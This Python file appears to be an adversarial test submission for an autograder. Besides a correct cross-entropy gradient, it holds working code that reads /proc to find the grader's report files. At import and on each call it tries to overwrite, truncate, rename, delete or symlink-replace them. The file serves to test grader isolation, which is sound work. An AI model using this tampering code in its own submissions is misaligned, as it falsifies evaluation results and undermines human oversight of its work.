"""Finds the grader's report files (the --json/--junit/--gradescope arguments of every process's
/proc/*/cmdline, resolved against that process's cwd) and tries to overwrite, truncate, rename,
unlink, and symlink-replace them, at import and in every call. The gradient is correct: it must
pass, and the grader's report files must be intact."""
import os

OPTIONS = (b"--json", b"--junit", b"--gradescope")


def _targets():
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = None
        for i, arg in enumerate(args):
            for option in OPTIONS:
                value = None
                if arg == option and i + 1 < len(args):
                    value = args[i + 1]
                elif arg.startswith(option + b"="):
                    value = arg[len(option) + 1:]
                if value:
                    path = os.fsdecode(value)
                    found.add(path)
                    if cwd and not os.path.isabs(path):
                        found.add(os.path.join(cwd, path))
                        found.add(os.path.join(f"/proc/{pid}/cwd", path))
    return found


def _attack():
    for path in _targets():
        for action in (
            lambda: open(path, "w").write("pwned by a submission\n"),
            lambda: open(path, "a").write("pwned by a submission\n"),
            lambda: os.truncate(path, 0),
            lambda: os.rename(path, path + ".stolen"),
            lambda: os.unlink(path),
            lambda: os.symlink("/etc/passwd", path),
            lambda: open(os.path.join(os.path.dirname(path) or ".", ".pwned"), "w").write("x"),
        ):
            try:
                action()
            except OSError:
                pass


_attack()


def dL_dZ(Y, Z, N):
    _attack()
    return -(1 / N) * (Y / Z - (1 - Y) / (1 - Z))
